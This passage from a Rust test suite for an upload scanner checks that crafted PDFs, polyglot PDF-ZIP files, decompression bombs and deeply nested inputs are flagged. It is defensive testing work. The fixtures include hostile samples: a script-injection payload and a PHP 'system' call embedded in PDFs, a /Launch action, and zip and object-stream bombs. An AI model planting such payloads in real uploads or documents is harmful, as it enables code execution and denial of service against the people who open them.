        &flate("/Type/ObjStm/Filter[/FlateDecode]/DecodeParms<</Predictor 1>>", &[HARMLESS], ""),
    );
    for dictionary in [
        "/Type/ObjStm/Filter/FlateDecode",
        "/Type/ObjStm/Filter/Fl",
        "/Type/Obj#53tm/Filter/Fl#61teDecode",
        "/Filter/FlateDecode",
        "/Type 8 0 R/Filter[/FlateDecode]",
    ] {
        found(dictionary, &flate(dictionary, &[HARMLESS, SCRIPT], ""), "upload.pdf_action");
    }
    found(
        "behind an open string",
        &flate("/Type/ObjStm/Filter/FlateDecode", &[SCRIPT], "( "),
        "upload.pdf_action",
    );
    found(
        "a bare name at the end",
        &flate("/Type/ObjStm/Filter/FlateDecode", &[HARMLESS, "/Launch"], ""),
        "upload.pdf_action",
    );
    let (dictionary, data) = object_stream("/Type/ObjStm", &[SCRIPT], "");
    found("not packed", &with(stream(&dictionary, &data)), "upload.pdf_action");
    for dictionary in [
        "/Type/ObjStm/Filter/LZWDecode",
        "/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]",
        "/Type/ObjStm/Filter 8 0 R",
        "/Type/ObjStm/Filter/FlateDecode/DecodeParms<</Predictor 12>>",
        "/Type/ObjStm/Filter/FlateDecode/F(other.bin)",
        "/Type/ObjStm/Filter/FlateDecode/N 8 0 R",
    ] {
        found(dictionary, &flate(dictionary, &[HARMLESS], ""), "upload.pdf_opaque");
    }
    let (dictionary, data) = object_stream("/Type/ObjStm/Filter/FlateDecode", &[HARMLESS], "");
    found("not Flate", &with(stream(&dictionary, &deflate(&data))), "upload.pdf_opaque");
    let packed = zlib(&data);
    found("cut", &with(stream(&dictionary, &packed[..packed.len() / 2])), "upload.pdf_opaque");
    let locked = pdf_with_trailer(&[catalog(""), PAGES.to_vec()], "/Root 1 0 R/Encrypt 5 0 R");
    found("encrypted", &locked, "upload.pdf_opaque");
    clean("a font's profile", &with(stream("/N 3/Alternate/DeviceRGB", b"x")));
}

#[test]
fn object_streams_are_unpacked_to_a_limit() {
    let spaces = " ".repeat(9 << 20);
    let (dictionary, data) = object_stream("/Type/ObjStm/Filter/FlateDecode", &[&spaces], "");
    let packed = zlib(&data);
    clean("9 MiB", &with(stream(&dictionary, &packed)));
    let twice =
        pdf(&[catalog(""), PAGES.to_vec(), stream(&dictionary, &packed), stream(&dictionary, &packed)]);
    found("18 MiB", &twice, "upload.pdf_opaque");
}

#[test]
fn bytes_around_a_pdf() {
    let whole = page("");
    let archive = plain_zip(&[("a.html", b"x")]);
    clean("white space", &[&whole[..], b"\r\n\0\0\x1A"].concat());
    clean("end of a print job", &[&whole[..], b"\x1B%-12345X\r\n"].concat());
    found("bytes", &[&whole[..], b"and some more bytes"].concat(), "upload.trailing");
    found("an archive", &[&whole[..], &archive[..]].concat(), "upload.polyglot");
    found("an archive, hidden", &[&whole[..], &archive[..], b"\n%%EOF\n"].concat(), "upload.polyglot");
    let update = b"1 0 obj\n<</Type/Catalog/Pages 2 0 R/Lang(en)>>\nendobj\nxref\n0 0\ntrailer\n<</Root 1 0 R/Prev 9>>\nstartxref\n9\n%%EOF\n";
    clean("an update", &[&whole[..], update].concat());
    found("a page inside", &page("%<html><script>alert(1)</script>\n"), "upload.html");
    found("code inside", &page("%<?php system(1);\n"), "upload.server_code");
}

#[test]
fn long_and_deep_files_are_no_work() {
    // Each would take minutes if the time were not linear, or end the program if anything recursed.
    for part in ["/", "<<", "(", "[", "<", ">>", "%", "1 0 obj ", "/#", "stream\n", "<<>>stream\n"] {
        let mut bytes = b"%PDF-1.4\n1 0 obj\n".to_vec();
        bytes.extend(part.as_bytes().iter().cycle().take(1_000_000));
        bytes.extend(b"\nendobj\n%%EOF\n");
        findings(&bytes);
    }
    let nodes = (0..4000).map(|n| Node::stream(&n.to_string())).collect();
    // The allocation table of the writer is one sector: 128 sectors, of which 127 are the directory's.
    found("a directory longer than its table", &word(nodes), "upload.malformed");
    let shared = Entry::new("a", "x");
    let mut out = shared.local();
    let at = out.len();
    for _ in 0..20_000 {
        out.extend(shared.central(0));
    }
    let size = out.len() - at;
    out.extend(end_record(20_000, size, at, b""));
    found("shared header", &out, "upload.zip_ratio");
}
